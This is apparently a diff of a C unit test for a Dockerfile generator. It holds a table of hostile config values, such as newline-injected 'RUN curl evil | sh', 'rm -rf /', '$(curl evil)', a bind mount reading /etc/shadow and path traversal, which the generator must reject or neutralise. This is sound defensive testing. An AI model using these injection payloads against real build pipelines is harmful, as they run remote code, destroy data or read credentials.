@@ -30,67 +30,78 @@ struct row {
 	const char *text;    /* its contents */
 	enum outcome want;
 	const char *key;     /* REJECT: the key the error must name ("" = any) */
+	const char *ref;     /* NEUTRAL: dockwright.yml of the same shape, with a
+	                        harmless value; NULL: the app without the value */
 };
 
 /* YAML double-quoted strings carry the control characters. */
 static const struct row rows[] = {
-	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"pg\\nRUN curl evil | sh\"\n", REJECT, "dockerfile.apt.packages.build_stage" },
-	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev; rm -rf /\"\n", REJECT, "dockerfile.apt.packages" },
-	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev && curl x\"\n", REJECT, "dockerfile.apt.packages" },
-	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"$(curl evil)\"\n", REJECT, "dockerfile.apt.packages" },
-	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"`id`\"\n", REJECT, "dockerfile.apt.packages" },
-	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"-o=APT::Get::AllowUnauthenticated=1\"\n", REJECT, "dockerfile.apt.packages" },
-	{ "dockwright.yml", "dockerfile.apt.packages.deployment_stage: \"tzdata \\\\\"\n", REJECT, "dockerfile.apt.packages" },
-	{ "dockwright.yml", "dockerfile.apt.packages.all_stages: \"curl\\r\"\n", REJECT, "dockerfile.apt.packages.all_stages" },
-	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc*\"\n", REJECT, "dockerfile.yum.packages" },
-	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc;id\"\n", REJECT, "dockerfile.yum.packages" },
-	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"../../etc\"\n", REJECT, "dockerfile.copy_for_bundle" },
-	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"/etc\"\n", REJECT, "dockerfile.copy_for_bundle" },
-	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines\\nRUN id\"\n", REJECT, "dockerfile.copy_for_bundle" },
-	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines dir\"\n", REJECT, "dockerfile.copy_for_bundle" },
-	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"--from=evil\"\n", REJECT, "dockerfile.copy_for_bundle" },
-	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO BAR\": x}\n", REJECT, "dockerfile.build_args.at_top" },
-	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO=1\\nRUN id\": x}\n", REJECT, "dockerfile.build_args.at_top" },
-	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"1FOO\": x}\n", REJECT, "dockerfile.build_args.build_stage" },
-	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"FOO-BAR\": x}\n", REJECT, "dockerfile.build_args.build_stage" },
-	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {\"$FOO\": x}\n", REJECT, "dockerfile.build_args.deployment_stage" },
-	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {FOO: \"x\\nRUN id\"}\n", REJECT, "dockerfile.build_args.deployment_stage" },
-	{ "dockwright.yml", "dockerfile.build_args.at_top: {FOO: \"$(id) \\\" ; `id`\"}\n", NEUTRAL, NULL },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3\\nRUN id\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3 AS x\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:$(id)\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby@sha256:bad\"\n", REJECT, "dockerfile.image_package.from_base.docker_image" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.image_tag: \"3.3 AS evil\"\n", REJECT, "docker_image" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.image_variant: \"slim;id\"\n", REJECT, "docker_image" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.image_name: \"ruby\\tx\"\n", REJECT, "image_name" },
-	{ "dockwright.yml", "dockerfile.deploy_user.name: \"root\\nUSER 0\"\n", REJECT, "dockerfile.deploy_user.name" },
-	{ "dockwright.yml", "dockerfile.deploy_user.name: \"Deploy\"\n", REJECT, "dockerfile.deploy_user.name" },
-	{ "dockwright.yml", "dockerfile.deploy_user.name: \"de ploy\"\n", REJECT, "dockerfile.deploy_user.name" },
-	{ "dockwright.yml", "dockerfile.deploy_user.name: \"deploy:root\"\n", REJECT, "dockerfile.deploy_user.name" },
-	{ "dockwright.yml", "dockerfile.deploy_user.uid: \"1000; id\"\n", REJECT, "dockerfile.deploy_user.uid" },
-	{ "dockwright.yml", "dockerfile.deploy_user.gid: -1\n", REJECT, "dockerfile.deploy_user.gid" },
-	{ "dockwright.yml", "dockerfile.handler: \"app.handler\\\"]\\nRUN id\"\n", REJECT, "dockerfile.handler" },
-	{ "dockwright.yml", "dockerfile.handler: \"../x.handler\"\n", REJECT, "dockerfile.handler" },
-	{ "dockwright.yml", "dockerfile.handler: \"/abs/app.handler\"\n", REJECT, "dockerfile.handler" },
-	{ "dockwright.yml", "dockerfile.handler: \"nodot\"\n", REJECT, "dockerfile.handler" },
-	{ "dockwright.yml", "dockerfile.handler: \"app.handler; id\"\n", REJECT, "dockerfile.handler" },
-	{ "dockwright.yml", "dockerfile.workdir: \"/app\\nRUN id\"\n", REJECT, "dockerfile.workdir" },
-	{ "dockwright.yml", "dockerfile.workdir: \"app\"\n", REJECT, "dockerfile.workdir" },
-	{ "dockwright.yml", "dockerfile.workdir: \"/app dir\"\n", REJECT, "dockerfile.workdir" },
-	{ "dockwright.yml", "dockerfile.workdir: \"/app/../etc\"\n", REJECT, "dockerfile.workdir" },
-	{ "dockwright.yml", "dockerfile.workdir: \"/app$(id)\"\n", REJECT, "dockerfile.workdir" },
-	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\\"]\", \"x\"]\n", NEUTRAL, NULL },
-	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\nRUN id\"]\n", REJECT, "dockerfile.entrypoint" },
-	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"bundle exec bootsnap\\nUSER root\"\n", REJECT, "dockerfile.commands.bootsnap" },
-	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"echo $(id) `id` \\\\\"\n", NEUTRAL, NULL },
-	{ "dockwright.yml", "dockerfile.ric.version: \"3.1.3\\\" && curl x\"\n", REJECT, "dockerfile.ric.version" },
-	{ "dockwright.yml", "dockerfile.bundle_without: \"test\\\"\\nRUN id\"\n", REJECT, "dockerfile.bundle_without" },
-	{ "dockwright.yml", "dockerfile.bundle_without: \"test $(id)\"\n", REJECT, "dockerfile.bundle_without" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.ruby_version: \"3.3.6 AS evil\"\n", REJECT, "dockerfile.image_package.from_base.ruby_version" },
-	{ ".ruby-version", "3.3.6\nRUN curl evil | sh\n", NEUTRAL, NULL },
-	{ ".ruby-version", "$(id)\n", NEUTRAL, NULL },
-	{ ".tool-versions", "ruby 3.3.6 AS evil\n", NEUTRAL, NULL },
-	{ "Gemfile", "ruby \"3.3.6\\nRUN id\"\n", NEUTRAL, NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"pg\\nRUN curl evil | sh\"\n", REJECT, "dockerfile.apt.packages.build_stage", NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev; rm -rf /\"\n", REJECT, "dockerfile.apt.packages", NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"libpq-dev && curl x\"\n", REJECT, "dockerfile.apt.packages", NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"$(curl evil)\"\n", REJECT, "dockerfile.apt.packages", NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"`id`\"\n", REJECT, "dockerfile.apt.packages", NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.build_stage: \"-o=APT::Get::AllowUnauthenticated=1\"\n", REJECT, "dockerfile.apt.packages", NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.deployment_stage: \"tzdata \\\\\"\n", REJECT, "dockerfile.apt.packages", NULL },
+	{ "dockwright.yml", "dockerfile.apt.packages.all_stages: \"curl\\r\"\n", REJECT, "dockerfile.apt.packages.all_stages", NULL },
+	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc*\"\n", REJECT, "dockerfile.yum.packages", NULL },
+	{ "dockwright.yml", "package_type: zip\ndockerfile.yum.packages.build_stage: \"gcc;id\"\n", REJECT, "dockerfile.yum.packages", NULL },
+	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"../../etc\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
+	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"/etc\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
+	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines\\nRUN id\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
+	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"engines dir\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
+	{ "dockwright.yml", "dockerfile.copy_for_bundle: \"--from=evil\"\n", REJECT, "dockerfile.copy_for_bundle", NULL },
+	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO BAR\": x}\n", REJECT, "dockerfile.build_args.at_top", NULL },
+	{ "dockwright.yml", "dockerfile.build_args.at_top: {\"FOO=1\\nRUN id\": x}\n", REJECT, "dockerfile.build_args.at_top", NULL },
+	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"1FOO\": x}\n", REJECT, "dockerfile.build_args.build_stage", NULL },
+	{ "dockwright.yml", "dockerfile.build_args.build_stage: {\"FOO-BAR\": x}\n", REJECT, "dockerfile.build_args.build_stage", NULL },
+	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {\"$FOO\": x}\n", REJECT, "dockerfile.build_args.deployment_stage", NULL },
+	{ "dockwright.yml", "dockerfile.build_args.deployment_stage: {FOO: \"x\\nRUN id\"}\n", REJECT, "dockerfile.build_args.deployment_stage", NULL },
+	{ "dockwright.yml", "dockerfile.build_args.at_top: {FOO: \"$(id) \\\" ; `id`\"}\n", NEUTRAL, NULL, NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3\\nRUN id\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:3.3 AS x\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby:$(id)\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.docker_image: \"ruby@sha256:bad\"\n", REJECT, "dockerfile.image_package.from_base.docker_image", NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.image_tag: \"3.3 AS evil\"\n", REJECT, "docker_image", NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.image_variant: \"slim;id\"\n", REJECT, "docker_image", NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.image_name: \"ruby\\tx\"\n", REJECT, "image_name", NULL },
+	{ "dockwright.yml", "dockerfile.deploy_user.name: \"root\\nUSER 0\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
+	{ "dockwright.yml", "dockerfile.deploy_user.name: \"Deploy\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
+	{ "dockwright.yml", "dockerfile.deploy_user.name: \"de ploy\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
+	{ "dockwright.yml", "dockerfile.deploy_user.name: \"deploy:root\"\n", REJECT, "dockerfile.deploy_user.name", NULL },
+	{ "dockwright.yml", "dockerfile.deploy_user.uid: \"1000; id\"\n", REJECT, "dockerfile.deploy_user.uid", NULL },
+	{ "dockwright.yml", "dockerfile.deploy_user.gid: -1\n", REJECT, "dockerfile.deploy_user.gid", NULL },
+	{ "dockwright.yml", "dockerfile.handler: \"app.handler\\\"]\\nRUN id\"\n", REJECT, "dockerfile.handler", NULL },
+	{ "dockwright.yml", "dockerfile.handler: \"../x.handler\"\n", REJECT, "dockerfile.handler", NULL },
+	{ "dockwright.yml", "dockerfile.handler: \"/abs/app.handler\"\n", REJECT, "dockerfile.handler", NULL },
+	{ "dockwright.yml", "dockerfile.handler: \"nodot\"\n", REJECT, "dockerfile.handler", NULL },
+	{ "dockwright.yml", "dockerfile.handler: \"app.handler; id\"\n", REJECT, "dockerfile.handler", NULL },
+	{ "dockwright.yml", "dockerfile.workdir: \"/app\\nRUN id\"\n", REJECT, "dockerfile.workdir", NULL },
+	{ "dockwright.yml", "dockerfile.workdir: \"app\"\n", REJECT, "dockerfile.workdir", NULL },
+	{ "dockwright.yml", "dockerfile.workdir: \"/app dir\"\n", REJECT, "dockerfile.workdir", NULL },
+	{ "dockwright.yml", "dockerfile.workdir: \"/app/../etc\"\n", REJECT, "dockerfile.workdir", NULL },
+	{ "dockwright.yml", "dockerfile.workdir: \"/app$(id)\"\n", REJECT, "dockerfile.workdir", NULL },
+	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\\"]\", \"x\"]\n", NEUTRAL, NULL, NULL },
+	{ "dockwright.yml", "dockerfile.entrypoint: [\"/bin/ric\\nRUN id\"]\n", REJECT, "dockerfile.entrypoint", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"bundle exec bootsnap\\nUSER root\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"echo $(id) `id` \\\\\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"bundle exec bootsnap precompile \\\\  \"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"cat <<EOF\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"cat <<-'X' >f\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"--mount=type=bind,source=/,target=/h cat /h/etc/shadow\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"  --network=host curl x\"\n", REJECT, "dockerfile.commands.bootsnap", NULL },
+	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"echo $(id) `id` 'a\\\\b' \\\"x\\\" # \\\\ y\"\n", NEUTRAL, NULL, "dockerfile.commands.bootsnap: \"echo ok\"\n" },
+	{ "config/dockwright/stage/before_build", "RUN echo hi \\\n", REJECT, "stage hook before_build", NULL },
+	{ "config/dockwright/stage/after_build", "RUN echo hi \\\n\n", REJECT, "stage hook after_build", NULL },
+	{ "config/jets/dockerfile/stage/after_build", "RUN cat <<EOF >/x\nhello\n", REJECT, "stage hook after_build", NULL },
+	{ "dockwright.yml", "dockerfile.ric.version: \"3.1.3\\\" && curl x\"\n", REJECT, "dockerfile.ric.version", NULL },
+	{ "dockwright.yml", "dockerfile.bundle_without: \"test\\\"\\nRUN id\"\n", REJECT, "dockerfile.bundle_without", NULL },
+	{ "dockwright.yml", "dockerfile.bundle_without: \"test $(id)\"\n", REJECT, "dockerfile.bundle_without", NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.ruby_version: \"3.3.6 AS evil\"\n", REJECT, "dockerfile.image_package.from_base.ruby_version", NULL },
+	{ ".ruby-version", "3.3.6\nRUN curl evil | sh\n", NEUTRAL, NULL, NULL },
+	{ ".ruby-version", "$(id)\n", NEUTRAL, NULL, NULL },
+	{ ".tool-versions", "ruby 3.3.6 AS evil\n", NEUTRAL, NULL, NULL },
+	{ "Gemfile", "ruby \"3.3.6\\nRUN id\"\n", NEUTRAL, NULL, NULL },
 };
 
 static const char lock[] =
@@ -104,8 +115,24 @@ static int
 setup(void **state)
 {
 	(void)state;
+	char sub[128];
+
 	snprintf(dir, sizeof dir, "/tmp/dw-hostile-XXXXXX");
-	return mkdtemp(dir) ? 0 : -1;
+	if (!mkdtemp(dir))
+		return -1;
+	/* The stage hook folders, Jets' and dockwright's. */
+	snprintf(sub, sizeof sub, "%s/config", dir);
+	mkdir(sub, 0755);
+	snprintf(sub, sizeof sub, "%s/config/jets", dir);
+	mkdir(sub, 0755);
+	snprintf(sub, sizeof sub, "%s/config/jets/dockerfile", dir);
+	mkdir(sub, 0755);
+	snprintf(sub, sizeof sub, "%s/config/jets/dockerfile/stage", dir);
+	mkdir(sub, 0755);
+	snprintf(sub, sizeof sub, "%s/config/dockwright", dir);
+	mkdir(sub, 0755);
+	snprintf(sub, sizeof sub, "%s/config/dockwright/stage", dir);
+	return mkdir(sub, 0755);
 }
 
 static int
@@ -134,16 +161,25 @@ generate(dw_buf *out, dw_diags *d)
 	return rc;
 }
 
-/* The instruction keywords of a Dockerfile, one per line. */
+/* The instruction keywords of a Dockerfile with their flags and heredoc
+ * marks, one per line; `skip_args` leaves out ARG lines. */
 static void
-shape(const dw_buf *text, dw_buf *out)
+shape(const dw_buf *text, bool skip_args, dw_buf *out)
 {
 	dw_diags d = DW_DIAGS_INIT;
 	dw_dockerfile *df = dw_parse(text->ptr, text->len, "gen", NULL, &d);
 
 	assert_non_null(df);
-	for (size_t i = 0; i < df->ninstrs; i++)
-		dw_buf_printf(out, "%.*s\n", (int)df->instrs[i].keyword_len, df->instrs[i].keyword);
+	for (size_t i = 0; i < df->ninstrs; i++) {
+		const dw_instr *in = &df->instrs[i];
+
+		if (skip_args && in->kind == DW_I_ARG)
+			continue;
+		dw_buf_printf(out, "%.*s", (int)in->keyword_len, in->keyword);
+		for (size_t f = 0; f < in->nflags; f++)
+			dw_buf_printf(out, " %.*s", (int)in->flags[f].len, in->flags[f].value);
+		dw_buf_printf(out, "%s\n", in->nheredocs ? " <<" : "");
+	}
 	dw_dockerfile_free(df);
 	dw_diags_free(&d);
 }
@@ -169,7 +205,7 @@ hostile_values(void **state)
 	tu_put(dir, "config.ru", "run ->(env) { [200, {}, []] }\n");
 	tu_put(dir, "dockwright.yml", "{}\n");
 	assert_int_equal(generate(&base, &d), 0);
-	shape(&base, &base_shape);
+	shape(&base, true, &base_shape);
 	dw_diags_free(&d);
 	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
 		const struct row *r = &rows[i];
@@ -191,18 +227,37 @@ hostile_values(void **state)
 			if (rc != 0)
 				fail_msg("row %zu (%s) was rejected: %s", i, r->text,
 				         d.n ? d.v[0].message : "?");
-			shape(&out, &sh);
-			if (strcmp(sh.ptr, base_shape.ptr) != 0 &&
-			    strcmp(r->file, "dockwright.yml") != 0)
-				fail_msg("row %zu changed the instructions", i);
+			/* The instructions, flags and heredocs are the app's
+			 * without the value (ARG lines aside: a build arg
+			 * adds one), or those of a harmless value's. */
+			shape(&out, r->ref == NULL, &sh);
+			if (r->ref) {
+				dw_buf ref = DW_BUF_INIT, ref_shape = DW_BUF_INIT;
+
+				tu_put(dir, "dockwright.yml", r->ref);
+				assert_int_equal(generate(&ref, &d), 0);
+				shape(&ref, false, &ref_shape);
+				if (strcmp(sh.ptr, ref_shape.ptr) != 0)
+					fail_msg("row %zu changed the instructions:\n%s\nwant:\n%s", i,
+					         sh.ptr, ref_shape.ptr);
+				dw_buf_free(&ref);
+				dw_buf_free(&ref_shape);
+			} else if (strcmp(sh.ptr, base_shape.ptr) != 0) {
+				fail_msg("row %zu changed the instructions:\n%s\nwant:\n%s", i, sh.ptr,
+				         base_shape.ptr);
+			}
 			/* Config rows may add an ARG line, never anything else. */
 			assert_null(strstr(out.ptr, "\nRUN id"));
 			assert_null(strstr(out.ptr, "\nRUN curl evil"));
 			assert_null(strstr(out.ptr, " AS evil"));
 		}
-		for (size_t k = 0; k < 5; k++) {
-			static const char *const files[] = { ".ruby-version", ".tool-versions",
-			                                     "Gemfile", "dockwright.yml", "x" };
+		for (size_t k = 0; k < 8; k++) {
+			static const char *const files[] = {
+				".ruby-version", ".tool-versions", "Gemfile", "dockwright.yml", "x",
+				"config/dockwright/stage/before_build",
+				"config/dockwright/stage/after_build",
+				"config/jets/dockerfile/stage/after_build"
+			};
 			char path[256];
 
 			snprintf(path, sizeof path, "%s/%s", dir, files[k]);
@@ -214,6 +269,27 @@ hostile_values(void **state)
 	}
 	dw_buf_free(&base);
 	dw_buf_free(&base_shape);
+}
+
+/* A hook that closes its heredoc and ends its lines is pasted as is. */
+static void
+hook_complete(void **state)
+{
+	dw_buf out = DW_BUF_INIT;
+	dw_diags d = DW_DIAGS_INIT;
+
+	(void)state;
+	tu_put(dir, "Gemfile.lock", lock);
+	tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
+	tu_put(dir, "dockwright.yml", "{}\n");
+	tu_put(dir, "config.ru", "run ->(env) { [200, {}, [\"ok\"]] }\n");
+	tu_put(dir, "config/dockwright/stage/after_build",
+	       "RUN <<-EOT bash\n\techo hi \\\n\tEOT\nRUN echo a \\\n  b\n");
+	if (generate(&out, &d) != 0)
+		fail_msg("rejected: %s", d.n ? d.v[0].message : "?");
+	assert_non_null(strstr(out.ptr, "\tEOT\nRUN echo a \\\n  b\n\nFROM base AS deployment"));
+	dw_buf_free(&out);
+	dw_diags_free(&d);
 }
 
 static void
@@ -271,6 +347,7 @@ main(void)
 		cmocka_unit_test(enough_rows),
 		cmocka_unit_test(value_grammars),
 		cmocka_unit_test_setup_teardown(hostile_values, setup, teardown),
+		cmocka_unit_test_setup_teardown(hook_complete, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
